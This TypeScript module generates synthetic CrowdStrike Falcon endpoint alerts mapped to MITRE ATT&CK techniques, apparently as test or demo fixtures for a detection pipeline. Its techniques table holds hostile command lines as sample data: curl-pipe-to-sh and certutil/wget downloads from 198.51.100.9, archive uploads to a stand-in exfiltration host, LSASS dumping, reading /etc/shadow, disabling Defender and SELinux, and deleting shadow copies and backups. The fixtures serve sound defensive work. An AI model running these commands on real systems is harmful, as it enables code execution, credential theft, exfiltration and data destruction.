// Falcon EPP alerts (detects.Alert as the Alerts v2 API returns it) generated against fleet hosts.
import type { FalconDevice } from './host-records';
import type { Random } from './prng';
import { isoFraction, isoSeconds } from './time';

export type AlertStatus = 'new' | 'in_progress' | 'closed' | 'reopened';
export type SeverityName = 'Informational' | 'Low' | 'Medium' | 'High' | 'Critical';

export interface FalconAlert {
  composite_id: string;
  id: string;
  aggregate_id: string;
  cid: string;
  agent_id: string;
  created_timestamp: string;
  updated_timestamp: string;
  timestamp: string;
  crawled_timestamp: string;
  status: AlertStatus;
  severity: number;
  severity_name: SeverityName;
  confidence: number;
  tactic: string;
  tactic_id: string;
  technique: string;
  technique_id: string;
  mitre_attack: { pattern_id: number; tactic: string; tactic_id: string; technique: string; technique_id: string }[];
  objective: string;
  scenario: string;
  name: string;
  display_name: string;
  description: string;
  pattern_id: number;
  product: 'epp';
  type: string;
  platform: string;
  show_in_ui: boolean;
  tags: string[];
  source_products: string[];
  source_vendors: string[];
  data_domains: string[];
  device: {
    device_id: string;
    cid: string;
    hostname: string;
    local_ip: string;
    external_ip: string;
    mac_address: string;
    platform_name: string;
    os_version: string;
    agent_version: string;
    machine_domain: string;
    product_type_desc: string;
    status: string;
    tags: string[];
    groups: string[];
    first_seen: string;
    last_seen: string;
    system_manufacturer: string;
    system_product_name: string;
  };
  filename: string;
  filepath: string;
  cmdline: string;
  sha256: string;
  md5: string;
  user_name: string;
  logon_domain: string;
  parent_details: { filename: string; filepath: string; cmdline: string; sha256: string; md5: string };
  pattern_disposition: number;
  pattern_disposition_description: string;
  pattern_disposition_details: Record<string, boolean>;
  falcon_host_link: string;
}

interface Technique {
  tactic: string;
  tactic_id: string;
  technique: string;
  technique_id: string;
  name: string;
  display_name: string;
  description: string;
  objective: string;
  scenario: string;
  pattern_id: number;
  severity: readonly [number, number];
  process: Record<'Windows' | 'Mac' | 'Linux', { filename: string; filepath: string; cmdline: string }>;
}

const win = (filename: string, dir: string, cmdline: string) => ({ filename, filepath: `\\Device\\HarddiskVolume3\\${dir}\\${filename}`, cmdline });
const nix = (filename: string, dir: string, cmdline: string) => ({ filename, filepath: `${dir}/${filename}`, cmdline });

/** A realistic slice of MITRE ATT&CK as Falcon labels it. */
const techniques: readonly Technique[] = [
  {
    tactic: 'Execution',
    tactic_id: 'TA0002',
    technique: 'PowerShell',
    technique_id: 'T1059.001',
    name: 'SuspiciousPowerShellEncodedCommand',
    display_name: 'Suspicious encoded PowerShell command',
    description: 'A PowerShell process ran an encoded command line often used to hide malicious scripts.',
    objective: 'Follow Through',
    scenario: 'suspicious_activity',
    pattern_id: 10197,
    severity: [50, 85],
    process: {
      Windows: win(
        'powershell.exe',
        'Windows\\System32\\WindowsPowerShell\\v1.0',
        'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
      ),
      Mac: nix('pwsh', '/usr/local/bin', 'pwsh -NoProfile -EncodedCommand SQBFAFgA'),
      Linux: nix('pwsh', '/usr/bin', 'pwsh -NoProfile -EncodedCommand SQBFAFgA'),
    },
  },
  {
    tactic: 'Execution',
    tactic_id: 'TA0002',
    technique: 'User Execution',
    technique_id: 'T1204',
    name: 'MaliciousDocumentMacro',
    display_name: 'Office document spawned a script host',
    description: 'An Office application launched a scripting engine, consistent with a malicious macro.',
    objective: 'Gain Access',
    scenario: 'malicious_document',
    pattern_id: 10211,
    severity: [60, 90],
    process: {
      Windows: win('wscript.exe', 'Windows\\System32', 'wscript.exe C:\\Users\\Public\\invoice_0425.vbs'),
      Mac: nix('osascript', '/usr/bin', 'osascript -e "do shell script \\"curl -s http://198.51.100.9/p | sh\\""'),
      Linux: nix('sh', '/bin', 'sh -c "curl -s http://198.51.100.9/p | sh"'),
    },
  },
  {
    tactic: 'Credential Access',
    tactic_id: 'TA0006',
    technique: 'OS Credential Dumping',
    technique_id: 'T1003',
    name: 'CredentialDumpingLsass',
    display_name: 'LSASS memory access by an unusual process',
    description: 'A process read the memory of LSASS, a common step in credential theft.',
    objective: 'Gain Access',
    scenario: 'credential_theft',
    pattern_id: 10146,
    severity: [70, 100],
    process: {
      Windows: win('rundll32.exe', 'Windows\\System32', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full'),
      Mac: nix('security', '/usr/bin', 'security dump-keychain -d login.keychain'),
      Linux: nix('cat', '/usr/bin', 'cat /etc/shadow'),
    },
  },
  {
    tactic: 'Persistence',
    tactic_id: 'TA0003',
    technique: 'Scheduled Task/Job',
    technique_id: 'T1053',
    name: 'SuspiciousScheduledTask',
    display_name: 'Scheduled task created from a temp folder',
    description: 'A scheduled task was created that runs a binary from a user-writable folder.',
    objective: 'Keep Access',
    scenario: 'persistence',
    pattern_id: 10350,
    severity: [30, 70],
    process: {
      Windows: win('schtasks.exe', 'Windows\\System32', 'schtasks /create /sc minute /mo 30 /tn Updater /tr C:\\Users\\Public\\upd.exe'),
      Mac: nix('launchctl', '/bin', 'launchctl load ~/Library/LaunchAgents/com.update.agent.plist'),
      Linux: nix('crontab', '/usr/bin', 'crontab /tmp/.c'),
    },
  },
  {
    tactic: 'Persistence',
    tactic_id: 'TA0003',
    technique: 'Boot or Logon Autostart Execution',
    technique_id: 'T1547',
    name: 'RunKeyPersistence',
    display_name: 'Autostart entry points to an unsigned binary',
    description: 'An autostart location was modified to launch an unsigned executable at logon.',
    objective: 'Keep Access',
    scenario: 'persistence',
    pattern_id: 10352,
    severity: [30, 65],
    process: {
      Windows: win('reg.exe', 'Windows\\System32', 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v svc /d C:\\Users\\Public\\svc.exe'),
      Mac: nix('defaults', '/usr/bin', 'defaults write com.apple.loginwindow LoginHook /tmp/.hook'),
      Linux: nix('systemctl', '/usr/bin', 'systemctl enable /tmp/.svc.service'),
    },
  },
  {
    tactic: 'Defense Evasion',
    tactic_id: 'TA0005',
    technique: 'Impair Defenses',
    technique_id: 'T1562',
    name: 'DisableSecurityTooling',
    display_name: 'Attempt to disable security tooling',
    description: 'A process tried to stop or tamper with endpoint security services.',
    objective: 'Keep Access',
    scenario: 'defense_evasion',
    pattern_id: 10402,
    severity: [55, 90],
    process: {
      Windows: win('cmd.exe', 'Windows\\System32', 'cmd.exe /c sc stop WinDefend & bcdedit /set {default} recoveryenabled No'),
      Mac: nix('spctl', '/usr/sbin', 'spctl --master-disable'),
      Linux: nix('setenforce', '/usr/sbin', 'setenforce 0'),
    },
  },
  {
    tactic: 'Defense Evasion',
    tactic_id: 'TA0005',
    technique: 'Masquerading',
    technique_id: 'T1036',
    name: 'MasqueradedSystemBinary',
    display_name: 'System binary name running from an unusual path',
    description: 'A process named like a system binary ran from outside its normal location.',
    objective: 'Keep Access',
    scenario: 'defense_evasion',
    pattern_id: 10410,
    severity: [40, 75],
    process: {
      Windows: win('svchost.exe', 'Users\\Public', 'C:\\Users\\Public\\svchost.exe -k netsvcs'),
      Mac: nix('launchd', '/private/tmp', '/private/tmp/launchd'),
      Linux: nix('kworker', '/dev/shm', '/dev/shm/kworker'),
    },
  },
  {
    tactic: 'Discovery',
    tactic_id: 'TA0007',
    technique: 'System Network Configuration Discovery',
    technique_id: 'T1016',
    name: 'NetworkReconnaissance',
    display_name: 'Burst of network discovery commands',
    description: 'Several network discovery commands ran in quick succession from one parent.',
    objective: 'Explore',
    scenario: 'reconnaissance',
    pattern_id: 10501,
    severity: [10, 45],
    process: {
      Windows: win('ipconfig.exe', 'Windows\\System32', 'ipconfig /all'),
      Mac: nix('ifconfig', '/sbin', 'ifconfig -a'),
      Linux: nix('ip', '/usr/sbin', 'ip addr show'),
    },
  },
  {
    tactic: 'Discovery',
    tactic_id: 'TA0007',
    technique: 'Account Discovery',
    technique_id: 'T1087',
    name: 'DomainAccountEnumeration',
    display_name: 'Domain account enumeration',
    description: 'A process enumerated domain users and groups.',
    objective: 'Explore',
    scenario: 'reconnaissance',
    pattern_id: 10507,
    severity: [10, 40],
    process: {
      Windows: win('net.exe', 'Windows\\System32', 'net group "Domain Admins" /domain'),
      Mac: nix('dscl', '/usr/bin', 'dscl . list /Users'),
      Linux: nix('getent', '/usr/bin', 'getent passwd'),
    },
  },
  {
    tactic: 'Lateral Movement',
    tactic_id: 'TA0008',
    technique: 'Remote Services',
    technique_id: 'T1021',
    name: 'RemoteServiceExecution',
    display_name: 'Remote service created on another host',
    description: 'A process created and started a service on a remote host.',
    objective: 'Explore',
    scenario: 'lateral_movement',
    pattern_id: 10601,
    severity: [60, 90],
    process: {
      Windows: win('sc.exe', 'Windows\\System32', 'sc \\\\FIN-DT-00012 create upd binPath= C:\\Windows\\Temp\\upd.exe'),
      Mac: nix('ssh', '/usr/bin', 'ssh -o StrictHostKeyChecking=no admin@10.1.4.20'),
      Linux: nix('ssh', '/usr/bin', 'ssh -o StrictHostKeyChecking=no root@10.1.4.20'),
    },
  },
  {
    tactic: 'Command and Control',
    tactic_id: 'TA0011',
    technique: 'Ingress Tool Transfer',
    technique_id: 'T1105',
    name: 'ToolDownloadViaLolbin',
    display_name: 'Tool downloaded with a built-in utility',
    description: 'A built-in utility downloaded an executable from the internet.',
    objective: 'Contact Controlled Systems',
    scenario: 'command_and_control',
    pattern_id: 10701,
    severity: [40, 80],
    process: {
      Windows: win('certutil.exe', 'Windows\\System32', 'certutil -urlcache -split -f http://198.51.100.9/a.exe C:\\Users\\Public\\a.exe'),
      Mac: nix('curl', '/usr/bin', 'curl -so /tmp/.a http://198.51.100.9/a'),
      Linux: nix('wget', '/usr/bin', 'wget -qO /tmp/.a http://198.51.100.9/a'),
    },
  },
  {
    tactic: 'Exfiltration',
    tactic_id: 'TA0010',
    technique: 'Exfiltration Over Web Service',
    technique_id: 'T1567',
    name: 'ArchiveUploadToCloudStorage',
    display_name: 'Archive uploaded to a cloud storage service',
    description: 'A freshly created archive was uploaded to an external web service.',
    objective: 'Achieve Objective',
    scenario: 'data_exfiltration',
    pattern_id: 10801,
    severity: [60, 95],
    process: {
      Windows: win('rclone.exe', 'Users\\Public', 'rclone.exe copy C:\\Users\\Public\\q3.7z remote:drop'),
      Mac: nix('curl', '/usr/bin', 'curl -T /tmp/q3.zip https://upload.example-bad.net/drop'),
      Linux: nix('curl', '/usr/bin', 'curl -T /tmp/q3.tgz https://upload.example-bad.net/drop'),
    },
  },
  {
    tactic: 'Impact',
    tactic_id: 'TA0040',
    technique: 'Data Encrypted for Impact',
    technique_id: 'T1486',
    name: 'RansomwareFileEncryption',
    display_name: 'Mass file encryption consistent with ransomware',
    description: 'A process rewrote many user files with high-entropy content.',
    objective: 'Achieve Objective',
    scenario: 'ransomware',
    pattern_id: 10901,
    severity: [85, 100],
    process: {
      Windows: win('locker.exe', 'Users\\Public', 'C:\\Users\\Public\\locker.exe --path C:\\Users'),
      Mac: nix('locker', '/private/tmp', '/private/tmp/locker --path /Users'),
      Linux: nix('locker', '/tmp', '/tmp/locker --path /srv'),
    },
  },
  {
    tactic: 'Impact',
    tactic_id: 'TA0040',
    technique: 'Inhibit System Recovery',
    technique_id: 'T1490',
    name: 'ShadowCopyDeletion',
    display_name: 'Volume shadow copies deleted',
    description: 'A process deleted volume shadow copies, a common precursor to ransomware.',
    objective: 'Achieve Objective',
    scenario: 'ransomware',
    pattern_id: 10905,
    severity: [80, 100],
    process: {
      Windows: win('vssadmin.exe', 'Windows\\System32', 'vssadmin.exe delete shadows /all /quiet'),
      Mac: nix('tmutil', '/usr/bin', 'tmutil deletelocalsnapshots /'),
      Linux: nix('rm', '/bin', 'rm -rf /var/backups/*'),
    },
  },
  {
    tactic: 'Privilege Escalation',
    tactic_id: 'TA0004',
    technique: 'Exploitation for Privilege Escalation',
    technique_id: 'T1068',
    name: 'KernelExploitAttempt',
    display_name: 'Privilege escalation exploit attempt',
    description: 'A process exhibited behaviour consistent with a local privilege escalation exploit.',
    objective: 'Gain Access',
    scenario: 'privilege_escalation',
    pattern_id: 10990,
    severity: [65, 95],
    process: {
      Windows: win('printspoofer.exe', 'Users\\Public', 'printspoofer.exe -i -c cmd'),
      Mac: nix('exploit', '/private/tmp', '/private/tmp/exploit'),
      Linux: nix('pkexec', '/usr/bin', 'pkexec /tmp/.x'),
    },
  },
  {
    tactic: 'Machine Learning',
    tactic_id: 'CSTA0004',
    technique: 'Sensor-based ML',
    technique_id: 'CST0007',
    name: 'SensorMLFileDetection',
    display_name: 'Machine learning flagged a file as malicious',
    description: 'This file meets the machine learning-based on-sensor AV protection high confidence threshold.',
    objective: 'Falcon Detection Method',
    scenario: 'NGAV',
    pattern_id: 5702,
    severity: [15, 70],
    process: {
      Windows: win('setup_crack.exe', 'Users\\Public\\Downloads', '"C:\\Users\\Public\\Downloads\\setup_crack.exe"'),
      Mac: nix('installer_patch', '/Users/Shared', '/Users/Shared/installer_patch'),
      Linux: nix('miner', '/tmp', '/tmp/miner --donate-level 0'),
    },
  },
];

const dispositions: readonly (readonly [number, string, Record<string, boolean>])[] = [
  [0, 'Detection, standard detection.', { detect: true }],
  [16, 'Prevention, process killed.', { kill_process: true }],
  [2048, 'Prevention, process was blocked from execution.', { process_blocked: true }],
  [144, 'Prevention, file quarantined.', { quarantine_file: true, kill_process: true }],
];

export function severityName(severity: number): SeverityName {
  if (severity >= 80) return 'Critical';
  if (severity >= 60) return 'High';
  if (severity >= 40) return 'Medium';
  if (severity >= 20) return 'Low';
  return 'Informational';
}

export interface AlertOptions {
  severity?: number;
  createdMs: number;
  /** ISO override for created_timestamp (addAlerts' createdAt). */
  createdAt?: string;
}

interface GenerateOptions extends AlertOptions {
  sequence: number;
  consoleHost: string;
  /** Initial (backfilled) alerts have mixed statuses; new arrivals are `new`. */
  initial: boolean;
}

/** Mixed precision, as Falcon sends: whole seconds, milliseconds or nanoseconds. */
function createdStamp(rng: Random, ms: number): string {
  const precision = rng.weighted([
    ['s', 2],
    ['ms', 4],
    ['ns', 4],
  ] as const);
  if (precision === 's') return isoSeconds(ms);
  if (precision === 'ms') return isoFraction(ms, 3);
  return isoFraction(ms, 9, rng.int(0, 999_999));
}

function fields(device: FalconDevice): FalconAlert['device'] {
  return {
    device_id: device.device_id,
    cid: device.cid,
    hostname: device.hostname,
    local_ip: device.local_ip,
    external_ip: device.external_ip,
    mac_address: device.mac_address,
    platform_name: device.platform_name,
    os_version: device.os_version,
    agent_version: device.agent_version,
    machine_domain: device.machine_domain,
    product_type_desc: device.product_type_desc,
    status: device.status,
    tags: device.tags,
    groups: device.groups,
    first_seen: device.first_seen,
    last_seen: device.last_seen,
    system_manufacturer: device.system_manufacturer,
    system_product_name: device.system_product_name,
  };
}

export function generateAlert(rng: Random, device: FalconDevice, options: GenerateOptions): FalconAlert {
  const t = rng.pick(techniques);
  const severity = Math.max(1, Math.min(100, Math.round(options.severity ?? rng.int(t.severity[0], t.severity[1]))));
  const aid = device.device_id;
  const cid = device.cid;
  const detectionNumber = String(4_294_967_296 + options.sequence * 7_919 + rng.int(0, 7_000));
  const localId = `${detectionNumber}-${t.pattern_id}-${String(options.sequence * 13 + 2_000)}`;
  const created = options.createdAt ?? createdStamp(rng, options.createdMs);
  const createdMs = Date.parse(created);
  const status: AlertStatus = options.initial
    ? rng.weighted<AlertStatus>([
        ['new', 55],
        ['in_progress', 20],
        ['closed', 20],
        ['reopened', 5],
      ])
    : 'new';
  const [disposition, dispositionText, dispositionDetails] = rng.pick(dispositions);
  const process = t.process[device.platform_name];
  const handle = device.last_login_user.replace(/^CORP\\/, '').replace(/@corp\.example$/, '');
  return {
    composite_id: `${cid}:ind:${aid}:${localId}`,
    id: `ind:${aid}:${localId}`,
    aggregate_id: `aggind:${aid}:${detectionNumber}`,
    cid,
    agent_id: aid,
    created_timestamp: created,
    updated_timestamp: status === 'new' ? created : isoFraction(createdMs + rng.int(60_000, 86_400_000), 9, rng.int(0, 999_999)),
    timestamp: isoFraction(createdMs - rng.int(500, 9_000), 3),
    crawled_timestamp: isoFraction(createdMs + rng.int(200, 4_000), 9, rng.int(0, 999_999)),
    status,
    severity,
    severity_name: severityName(severity),
    confidence: rng.int(Math.max(1, severity - 20), 100),
    tactic: t.tactic,
    tactic_id: t.tactic_id,
    technique: t.technique,
    technique_id: t.technique_id,
    mitre_attack: [{ pattern_id: t.pattern_id, tactic: t.tactic, tactic_id: t.tactic_id, technique: t.technique, technique_id: t.technique_id }],
    objective: t.objective,
    scenario: t.scenario,
    name: t.name,
    display_name: t.display_name,
    description: t.description,
    pattern_id: t.pattern_id,
    product: 'epp',
    type: 'ldt',
    platform: device.platform_name,
    show_in_ui: true,
    tags: [],
    source_products: ['Falcon Insight'],
    source_vendors: ['CrowdStrike'],
    data_domains: ['Endpoint'],
    device: fields(device),
    filename: process.filename,
    filepath: process.filepath,
    cmdline: process.cmdline,
    sha256: rng.hex(64),
    md5: rng.hex(32),
    user_name: handle,
    logon_domain: device.platform_name === 'Windows' ? 'CORP' : '',
    parent_details: {
      filename: device.platform_name === 'Windows' ? 'explorer.exe' : 'bash',
      filepath: device.platform_name === 'Windows' ? '\\Device\\HarddiskVolume3\\Windows\\explorer.exe' : '/bin/bash',
      cmdline: device.platform_name === 'Windows' ? 'C:\\Windows\\Explorer.EXE' : '-bash',
      sha256: rng.hex(64),
      md5: rng.hex(32),
    },
    pattern_disposition: disposition,
    pattern_disposition_description: dispositionText,
    pattern_disposition_details: dispositionDetails,
    falcon_host_link: `https://${options.consoleHost}/activity-v2/detections/${cid}:ind:${aid}:${localId}?_cid=${cid}`,
  };
}
